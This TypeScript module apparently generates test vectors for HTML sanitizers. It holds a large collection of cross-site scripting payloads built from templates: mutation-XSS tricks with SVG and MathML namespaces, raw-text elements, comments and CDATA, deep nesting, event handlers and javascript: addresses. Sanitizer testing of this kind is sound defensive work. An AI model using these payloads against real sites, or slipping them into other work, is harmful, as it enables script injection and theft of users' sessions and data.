import { cross, list, live, spelled, vector } from './vector.js';

// A sanitiser reads markup once and a page reads it again. Where the second reading differs, text has become markup: "mutation". These
// put the live part where a first reading takes it for text: in an attribute, a comment, or an element whose content is text in one
// language (HTML) and markup in another (SVG, MathML).

const RAW = list('style title textarea xmp noscript iframe noembed noframes script plaintext');
const CLOSED = list('select option button template object video audio canvas table caption svg math dialog details marquee frameset colgroup');

const inAttribute = [
  ...[...RAW, ...CLOSED].map((name) => vector(`an end of ${name} in an attribute in it`, (payload) => `<${name}><p title='</${name}>${live(payload)}'>x`)),
  ...cross(['svg', 'math'], RAW, (root, name) => vector(`an end of ${name} in an attribute in it, in ${root}`, (payload) => `<${root}><${name}><a title='</${name}>${live(payload)}'>x`)),
  ...cross(['</p>', '</br>', '<p>', '<font color="x">'], ['style', 'title', 'noscript'], (way, name) =>
    vector(`${name} behind ${way}, which leads out of svg`, (payload) => `<svg>${way}<${name}><a id='</${name}>${live(payload)}'>x`)),
  ...cross(['</p>', '</br>', '<p>'], ['style', 'title', 'noscript'], (way, name) =>
    vector(`${name} behind ${way}, which leads out of math`, (payload) => `<math>${way}<${name}><a id='</${name}>${live(payload)}'>x`)),
];

const inComments = [
  ...cross(list('mtext mi mo mn ms annotation-xml'), cross2(['mglyph', 'malignmark'], list('style title textarea xmp noscript')), (text, [glyph, raw]) =>
    vector(`${raw} in ${glyph} in a table in ${text}`, (payload) => {
      const encoding = text === 'annotation-xml' ? ' encoding="text/html"' : '';
      return `<math><${text}${encoding}><table><${glyph}><${raw}><!--</${raw}><a title='-->${live(payload)}'>`;
    })),
  ...RAW.map((raw) => vector(`forms that are one in the other once and not twice, with ${raw}`, (payload) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><${raw}><path id='</${raw}>${live(payload)}'>`)),
  ...RAW.map((raw) => vector(`a select that is left, with ${raw}`, (payload) => `<select><${raw}></select><!--</${raw}>${live(payload)}-->`)),
  ...list('desc title foreignObject').flatMap((point) => RAW.slice(0, 6).map((raw) => vector(`${raw} in ${point} of svg`, (payload) =>
    `<svg><${point}><${raw}><!--</${raw}><a title='--></${point}></svg>${live(payload)}'>`))),
  ...list('text/html TEXT/HTML application/xhtml+xml application/XHTML+xml text/xml').map((encoding) => vector(`annotation-xml that says ${encoding}`, (payload) =>
    `<math><annotation-xml encoding="${encoding}"><style><img title='</style>${live(payload)}'>`)),
];

function cross2<A, B>(as: readonly A[], bs: readonly B[]): [A, B][] {
  return as.flatMap((a) => bs.map((b): [A, B] => [a, b]));
}

const inSvg = [
  vector('a handler on svg', ({ call }) => `<svg onload="${call}"><g onload="${call}"></g></svg>`),
  vector('a script in svg', ({ call }) => `<svg><script>${call}</script></svg>`),
  vector('a script in svg, in references', ({ call }) => `<svg><script>${spelled(call, (code) => `&#${code};`)}</script></svg>`),
  vector('a script in svg, in CDATA', ({ call }) => `<svg><script><![CDATA[${call}]]></script></svg>`),
  vector('a script in svg that closes itself', (payload) => `<svg><script href="data:text/javascript,${payload.call}"/>${live(payload)}</svg>`),
  vector('a script in mathml', ({ call }) => `<math><mtext><script>${call}</script></mtext></math>`),
  ...list('animate set animateTransform animateMotion').flatMap((name) => [
    vector(`${name} with handlers`, ({ call }) => `<svg><${name} attributeName="x" dur="1s" onbegin="${call}" onend="${call}" onrepeat="${call}"/></svg>`),
    vector(`${name} of an address`, ({ call }) => `<svg><a id="x"><text y="20">x</text><${name} attributeName="href" values="javascript:${call}" to="javascript:${call}" begin="0s"/></a></svg>`),
    vector(`${name} of a handler`, ({ call }) => `<svg><g><${name} attributeName="onload" to="${call}"/></g></svg>`),
  ]),
  vector('use of a drawing in the address', ({ call }) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${call}'/></svg>#x"/></svg>`),
  vector('a page in a drawing', (payload) => `<svg><foreignObject><body onload="${payload.call}"><iframe src="javascript:parent.${payload.call}"></iframe>${live(payload)}</foreignObject></svg>`),
  vector('HTML in svg, where its text is markup', (payload) => `<svg><style>${live(payload)}</style></svg>`),
  vector('HTML in math, where its text is markup', (payload) => `<math><style>${live(payload)}</style></math>`),
  vector('a picture in svg', ({ call, here }) => `<svg><image href="${here}" onerror="${call}"/><img src="${here}" onerror="${call}"></svg>`),
  vector('a filter that fetches', ({ here }) => `<svg><filter id="f"><feImage href="${here}"/></filter><rect width="9" height="9" filter="url(#f)"/><rect fill="url(${here})" width="9" height="9"/></svg>`),
  vector('a handler element of svg', ({ call }) => `<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">${call}</handler></svg>`),
  vector('an entity of XML', ({ call }) => `<!DOCTYPE svg [<!ENTITY x "<img src=x onerror=${call}>">]><svg><text>&x;</text></svg>`),
  vector('a style sheet of XML', ({ here }) => `<?xml-stylesheet href="${here}"?><svg></svg>`),
  vector('a mathml link', ({ call }) => `<math><mrow href="javascript:${call}"><mi>x</mi></mrow></math>`),
  vector('a mathml action', ({ call }) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${call}"><mtext>x</mtext></maction></math>`),
  vector('mathml with handlers', ({ call }) => `<math onclick="${call}"><mtext onmouseover="${call}">x</mtext></math>`),
  vector('svg by a prefix', ({ call }) => `<svg:svg xmlns:svg="http://www.w3.org/2000/svg" onload="${call}"><svg:script>${call}</svg:script></svg:svg>`),
  vector('HTML by a prefix', ({ call }) => `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${call}</html:script><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="${call}"/>`),
  vector('a namespace for HTML of the text’s own', (payload) => `<p xmlns="http://www.w3.org/2000/svg"><script xmlns="http://www.w3.org/1999/xhtml">${payload.call}</script>${live(payload)}</p>`),
  vector('a namespace declared in svg', (payload) => `<svg xmlns="http://www.w3.org/1999/xhtml"><p>${live(payload)}</p></svg>`),
  vector('an end of svg in its title', (payload) => `<svg><title></svg>${live(payload)}</title></svg>`),
  vector('svg in math in svg', (payload) => `<svg><math><svg><math><mtext>${live(payload)}</mtext></math></svg></math></svg>`),
];

const DEPTH = 600;
const nested = [
  ...list('div b blockquote ul><li table><tr><td details svg math font x-y form section').map((name) => vector(`${name}, ${DEPTH} deep`, (payload) =>
    `${`<${name}>`.repeat(DEPTH)}<style><a title='</style>${live(payload)}'>${live(payload)}`)),
  vector('a table that lets go of what does not belong in it', (payload) => `<table><tr>${live(payload)}<td><table>${live(payload)}<style><a title='</style>${live(payload)}'></table></table>`),
  vector('a paragraph around a table', (payload) => `<p><svg><desc><p></p><table>${live(payload)}</table></desc></svg></p>`),
  vector('links that stand in each other', (payload) => `<a href="/1"><table><a href="javascript:${payload.call}">${live(payload)}</a></table></a>`),
  vector('bold text that is closed elsewhere', (payload) => `<b><p>x</b>${live(payload)}<i><b></p></i>${live(payload)}</b>`),
  vector('fifty bold texts that are never closed', (payload) => `${'<p><b><i><u>x'.repeat(50)}${live(payload)}`),
  ...list('section article header footer main aside nav address center hgroup form fieldset legend search font big tt label picture nobr data menu o:p x-y').map((name) =>
    vector(`${name} around what is live`, (payload) => `<${name} lang="sv" onclick="${payload.call}">${live(payload)}<p>x</p></${name}>`)),
  vector('a heading in a heading in a button', (payload) => `<button><h2><button><h3>${live(payload)}</h3></button></h2></button>`),
  vector('a form in a form', (payload) => `<form id="a"><div></form><form id="b"><input name="c">${live(payload)}</form></div>`),
  vector('a select with everything in it', (payload) => `<select><option><selectedcontent></selectedcontent>${live(payload)}<script>${payload.call}</script><hr><input>${live(payload)}</option></select>`),
  vector('a list item in nothing', (payload) => `<li><dd><dt><td><tr><caption>${live(payload)}</caption></tr></td></dt></dd></li>`),
  vector('a second body with attributes', (payload) => `<p>x</p><body onload="${payload.call}" background="${payload.here}"><html onmouseover="${payload.call}" manifest="${payload.here}">`),
  vector('what stands after the end of the page', (payload) => `</body></html>${live(payload)}<script>${payload.call}</script>`),
  vector('what stands in the head', (payload) => `<head><base href="${payload.there}"><title>x</title></head>${live(payload)}`),
  vector('frames in place of a body', (payload) => `<frameset onload="${payload.call}"><frame src="${payload.here}"><noframes>${live(payload)}</noframes></frameset>`),
];

const comments = [
  ...['<!-->', '<!--->', '<!-- --!>', '<!--x--!>', '<!---!>', '<!- ->', '<!x>', '<!>', '</ >', '</>', '<?x?>', '<?>', '<%x%>', '<![endif]-->', '<!--[if gte IE 4]>', '<![if !mso]>', '<![CDATA[>', '<![CDATA[x]]>', '<!DOCTYPE x>', '<!ELEMENT x>', '<!--<!-->', '<!-- -- >', '<!--\0>'].map((start) =>
    vector(`markup behind ${start.replace('\0', 'NUL')}`, (payload) => `<p>x</p>${start}${live(payload)}-->`)),
  vector('markup behind a comment in svg', (payload) => `<svg><!--<style><img title='-->${live(payload)}'>`),
  vector('markup in CDATA in svg', (payload) => `<svg><![CDATA[</svg>${live(payload)}]]></svg>`),
  vector('markup in CDATA in svg, in a style', (payload) => `<svg><style><![CDATA[</style>${live(payload)}]]></style></svg>`),
  vector('markup in an attribute in CDATA', (payload) => `<svg><![CDATA[<image title="]]>${live(payload)}">]]></svg>`),
  vector('a processing instruction with markup', (payload) => `<?php echo '>${live(payload)}' ?>`),
  vector('a processing instruction that patches the page', (payload) => `<?start name="x"?><p>x</p><?end?><template for="x">${live(payload)}</template>`),
  vector('a conditional comment', (payload) => `<!--[if true]>${live(payload)}<script>${payload.call}</script><![endif]-->`),
  vector('a comment that never ends', (payload) => `<p>x</p><!-- ${live(payload)}`),
];

export const foreign = [...inAttribute, ...inComments, ...inSvg];
export const structure = [...nested, ...comments];
